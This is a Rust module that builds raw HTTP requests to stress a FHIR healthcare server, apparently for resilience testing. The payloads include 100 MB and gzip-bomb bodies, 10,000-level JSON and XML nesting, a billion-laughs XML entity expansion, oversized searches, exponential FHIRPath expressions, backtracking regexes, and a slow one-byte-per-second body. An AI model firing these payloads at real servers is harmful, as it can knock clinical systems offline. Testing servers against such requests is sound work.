//! The requests: each as the bytes that go over the connection.

use std::{fmt::Write as _, time::Duration};

use bytes::Bytes;
use serde_json::{Value, json};

use super::target::Target;

/// How large a large body is, in bytes.
const LARGE_BYTES: usize = 100 * 1024 * 1024;

/// The piece that a large body is made of, in bytes.
const PIECE_BYTES: usize = 64 * 1024;

/// How deep what is deep nests, in levels.
const LEVELS: usize = 10_000;

/// How many entries a large Bundle has.
const ENTRIES: usize = 100_000;

/// How many values a long search has.
const VALUES: usize = 10_000;

/// How many references a long chain follows.
const CHAINS: usize = 50;

const JSON: &str = "application/fhir+json";
const XML: &str = "application/fhir+xml";
const FORM: &str = "application/x-www-form-urlencoded";

/// A request made to harm.
#[derive(Clone)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// The request line and the headers, with the empty line after them.
    pub(crate) head: Bytes,
    pub(crate) body: Body,
}

/// What follows the headers.
#[derive(Clone)]
pub(crate) enum Body {
    /// Parts, each so many times.
    Whole(Vec<(Bytes, usize)>),
    /// Bytes one by one, with a pause after each.
    Slow(Bytes, Duration),
}

/// The patient that some of the requests are about, as a request.
pub(crate) fn patient(target: &Target) -> Attack {
    let name = "a".repeat(5_000);
    let patient = json!({"resourceType": "Patient", "id": "hx", "active": true,
        "name": [{"family": name}]});
    of(target, "", "PUT", "/Patient/hx", JSON, patient.to_string())
}

/// An ordinary search.
pub(crate) fn question(target: &Target) -> Attack {
    get(target, "", "/Patient?_count=1")
}

/// All of them.
pub(crate) fn all(target: &Target) -> Vec<Attack> {
    let post = |name, path: &str, kind, body: String| of(target, name, "POST", path, kind, body);
    let entry = json!({"resource": {"resourceType": "Patient", "active": true},
        "request": {"method": "POST", "url": "Patient"}});
    let entries = vec![entry.to_string(); ENTRIES].join(",");
    let values: Vec<String> = (0..VALUES).map(|at| format!("p{at}")).collect();
    let values = values.join(",");
    let repeat = "a".repeat(PIECE_BYTES);
    vec![
        large(target, &repeat),
        large_in_chunks(target, &repeat),
        post(
            "JSON 10,000 deep",
            "/Patient",
            JSON,
            format!(
                r#"{{"resourceType":"Patient","extension":{}[]{}}}"#,
                r#"[{"extension":"#.repeat(LEVELS),
                "}]".repeat(LEVELS)
            ),
        ),
        post(
            "XML 10,000 deep",
            "/Patient",
            XML,
            format!(
                r#"<Patient xmlns="http://hl7.org/fhir">{}{}</Patient>"#,
                "<extension>".repeat(LEVELS),
                "</extension>".repeat(LEVELS)
            ),
        ),
        post(
            "Bundle of 100,000 entries",
            "",
            JSON,
            format!(r#"{{"resourceType":"Bundle","type":"batch","entry":[{entries}]}}"#),
        ),
        post("XML entities in entities", "/Patient", XML, entities()),
        gzip(target),
        get(
            target,
            "search with 10,000 values in the URL",
            &format!("/Patient?_id={values}"),
        ),
        post(
            "search with 10,000 values in a form",
            "/Patient/_search",
            FORM,
            format!("_id={values}"),
        ),
        get(
            target,
            "search with 50 chains",
            &format!("/Patient?{}name=x", "link:Patient.".repeat(CHAINS)),
        ),
        patch(
            target,
            "FHIRPath that walks the tree again and again",
            &format!("Patient.{}active", "descendants().".repeat(30)),
        ),
        patch(
            target,
            "FHIRPath that doubles 200 times",
            &format!(
                "Patient.name.where(('x'|'y'|'z'){}.exists())",
                ".select($this & $this)".repeat(200)
            ),
        ),
        patch(
            target,
            "regular expression with nested repeats",
            "Patient.name.where(family.matches('^(a+)+$|(a*)*b'))",
        ),
        patch(
            target,
            "regular expression with counted repeats",
            "Patient.name.where(family.matches('((a{1,1000}){1,1000}){1,1000}b'))",
        ),
        slow(target),
    ]
}

fn head(target: &Target, method: &str, path: &str, headers: &str) -> Bytes {
    let (base, host) = (target.path(), target.address());
    let head = format!(
        "{method} {base}{path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n{headers}\r\n"
    );
    head.into()
}

fn typed(kind: &str, bytes: usize) -> String {
    format!("content-type: {kind}\r\ncontent-length: {bytes}\r\n")
}

fn of(
    target: &Target,
    name: &'static str,
    method: &str,
    path: &str,
    kind: &str,
    body: String,
) -> Attack {
    Attack {
        name,
        head: head(target, method, path, &typed(kind, body.len())),
        body: Body::Whole(vec![(body.into(), 1)]),
    }
}

fn get(target: &Target, name: &'static str, path: &str) -> Attack {
    Attack {
        name,
        head: head(target, "GET", path, ""),
        body: Body::Whole(Vec::new()),
    }
}

/// A FHIRPath Patch, which evaluates an expression that the client writes.
fn patch(target: &Target, name: &'static str, expression: &str) -> Attack {
    let part = |name: &str, value: &str, of: &str| -> Value { json!({"name": name, of: value}) };
    let parameters = json!({"resourceType": "Parameters", "parameter": [{"name": "operation", "part": [
        part("type", "delete", "valueCode"), part("path", expression, "valueString")]}]});
    of(
        target,
        name,
        "PATCH",
        "/Patient/hx",
        JSON,
        parameters.to_string(),
    )
}

fn large(target: &Target, piece: &str) -> Attack {
    let (begin, end) = (r#"{"resourceType":"Patient","language":""#, r#""}"#);
    let times = LARGE_BYTES / PIECE_BYTES;
    let bytes = begin.len() + times * PIECE_BYTES + end.len();
    Attack {
        name: "body of 100 MB, announced",
        head: head(target, "POST", "/Patient", &typed(JSON, bytes)),
        body: Body::Whole(vec![
            (begin.into(), 1),
            (piece.to_owned().into(), times),
            (end.into(), 1),
        ]),
    }
}

fn large_in_chunks(target: &Target, piece: &str) -> Attack {
    let headers = format!("content-type: {JSON}\r\ntransfer-encoding: chunked\r\n");
    let chunk = format!("{PIECE_BYTES:x}\r\n{piece}\r\n");
    Attack {
        name: "body of 100 MB, in chunks",
        head: head(target, "POST", "/Patient", &headers),
        body: Body::Whole(vec![
            (chunk.into(), LARGE_BYTES / PIECE_BYTES),
            ("0\r\n\r\n".into(), 1),
        ]),
    }
}

/// A hundred million times the letter a, in a few hundred kilobytes.
fn gzip(target: &Target) -> Attack {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let piece = vec![b'a'; PIECE_BYTES];
    for _ in 0..LARGE_BYTES / PIECE_BYTES {
        // Writing into memory does not fail.
        let _ = std::io::Write::write_all(&mut packer, &piece);
    }
    let packed = packer.finish().unwrap_or_default();
    let headers = format!("{}content-encoding: gzip\r\n", typed(JSON, packed.len()));
    Attack {
        name: "100 MB packed with gzip",
        head: head(target, "POST", "/Patient", &headers),
        body: Body::Whole(vec![(packed.into(), 1)]),
    }
}

/// Nine entities of ten of the one before: a billion letters.
fn entities() -> String {
    let mut declared = r#"<!ENTITY e0 "aaaaaaaaaa">"#.to_owned();
    for at in 1..9 {
        let before = format!("&e{};", at - 1).repeat(10);
        let _ = write!(declared, r#"<!ENTITY e{at} "{before}">"#);
    }
    format!(
        r#"<!DOCTYPE p [{declared}]><Patient xmlns="http://hl7.org/fhir"><id value="&e8;"/></Patient>"#
    )
}

fn slow(target: &Target) -> Attack {
    let body = r#"{"resourceType":"Patient"}"#.to_owned() + &" ".repeat(1_000);
    Attack {
        name: "body that comes a byte a second",
        head: head(target, "POST", "/Patient", &typed(JSON, body.len())),
        body: Body::Slow(body.into(), Duration::from_secs(1)),
    }
}
